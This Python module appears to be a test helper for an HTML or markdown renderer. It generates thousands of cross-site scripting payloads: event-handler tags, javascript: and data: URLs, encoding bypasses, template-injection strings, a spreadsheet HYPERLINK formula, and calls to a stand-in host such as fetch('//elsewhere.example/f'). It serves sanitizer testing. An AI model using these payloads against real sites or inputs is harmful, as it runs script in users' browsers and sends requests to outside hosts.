"""Texts that run or load something wherever they are taken for markup: made here from what is known to do so.

ATLAS_PAYLOADS names a file with one text a line, such as Intruder/xss-payload-list.txt of
github.com/payloadbox/xss-payload-list (MIT, 6,590 different texts); the long tests then take those first.
"""

from __future__ import annotations

import os
from collections.abc import Iterator, Sequence
from itertools import islice, product
from pathlib import Path

SETTING = "ATLAS_PAYLOADS"
_RUN = (
    "alert(1)",
    "confirm`1`",
    "top['al'+'ert'](1)",
    "(prompt)(1)",
    "fetch('//elsewhere.example/f')",
    "[1].find(alert)",
    "&#97;lert(1)",
    "new(Image)().src='//elsewhere.example/i'",
)
_HANDLERS = {
    "img src=x": ("onerror", "OnErRoR"),
    "svg": ("onload",),
    "video src=x": ("onerror", "onloadstart"),
    "audio src=x": ("onerror",),
    "video><source": ("onerror",),
    "body": ("onload", "onpageshow"),
    "input autofocus": ("onfocus",),
    "select autofocus": ("onfocus",),
    "textarea autofocus": ("onfocus",),
    "details open": ("ontoggle",),
    "marquee": ("onstart",),
    "style": ("onload",),
    "object data=x": ("onerror",),
    "x id=x tabindex=1 style=animation-name:x": ("onanimationstart", "onfocusin"),
    "iframe src=x": ("onload",),
    "link rel=stylesheet href=x": ("onerror",),
    "embed src=x": ("onload",),
}
_FORMS = (
    "<{tag} {handler}={run}>",
    '<{tag} {handler}="{run}">',
    "<{tag}/{handler}='{run}'/>",
    "<{tag}\t{handler}\n=\n{run}//",
    '"><{tag} {handler}={run}>',
    "'-->{run}<{tag} {handler}={run}>",
    "</title></textarea></script><{tag} {handler}={run}>",
    "<![CDATA[<{tag} {handler}={run}>]]>",
    "&lt;{tag} {handler}={run}&gt;",
    "<<{tag} {handler}={run}>>",
)
_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "\x01javascript:alert(1)",
    " javascript://%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "vbscript:msgbox(1)",
    "//elsewhere.example/x",
    "https://elsewhere.example/x.png",
    "http://elsewhere.example\\@here.example/x",
)
_LINKS = (
    "{0}",
    '<a href="{0}">x</a>',
    "<a href={0}>x",
    "<iframe src='{0}'></iframe>",
    "<img src={0}>",
    "<object data='{0}'></object>",
    "<form action='{0}'><button>x</button></form>",
    "<button form=x formaction='{0}'>x</button>",
    "<svg><a xlink:href='{0}'><text y=20>x</text></a></svg>",
    "<math href='{0}'>x</math>",
    "<base href='{0}'>",
    "<link rel=stylesheet href='{0}'>",
    "<link rel=prefetch href='{0}'>",
    "<meta http-equiv=refresh content='0;url={0}'>",
    "<script src='{0}'></script>",
    "<script type=module>import '{0}'</script>",
    "<style>@import '{0}';</style>",
    "<div style=\"background:url('{0}')\">x</div>",
    "<video poster='{0}' src='{0}'></video>",
    "<image href='{0}' />",
    "![x]({0})",
    "![x](<{0}>)",
    "[x]({0})",
    "[![x]({0})]({0})",
    "<{0}>",
    "![x][1]\n\n[1]: {0}",
    ":red[![x]({0})]",
    ":material/home: [x]({0} 'title')",
    "| ![x]({0}) |\n| --- |\n| [x]({0}) |",
    "$\\href{{{0}}}{{x}}$",
    "$$\\includegraphics{{{0}}}$$",
    "# ![x]({0})",
    "`x` ![x]({0})",
    "<b>x</b><br><a href='{0}'>x</a>",
)
_WHOLE = (
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script>alert`1`</script >",
    "<scr<script>ipt>alert(1)</script>",
    '"><script>alert(1)</script>',
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "';alert(1)//",
    "</style><script>alert(1)</script>",
    '=HYPERLINK("https://elsewhere.example","x")',
)


def made() -> Iterator[str]:
    """All texts that are made here, in the same order each time."""
    yield from _WHOLE
    for form, address in product(_LINKS, _ADDRESSES):
        # An address of the web that stands alone is none of these: it may be a link where a source is named.
        if form != "{0}" or not address.startswith("http"):
            yield form.format(address)
    for form, (tag, handlers), run in product(_FORMS, _HANDLERS.items(), _RUN):
        for handler in handlers:
            yield form.format(tag=tag, handler=handler, run=run)


def some(count: int) -> Sequence[str]:
    """So many of those made here, spread over all kinds."""
    every = list(made())
    return [*_WHOLE, *islice(every, len(_WHOLE), None, max(1, len(every) // count))]


def everything() -> Sequence[str]:
    """Those of the file that ATLAS_PAYLOADS names, then all that are made here."""
    listed = os.environ.get(SETTING)
    given = Path(listed).read_text("utf-8", errors="replace").splitlines() if listed else []
    return list(dict.fromkeys(text for text in (*given, *made()) if text.strip()))
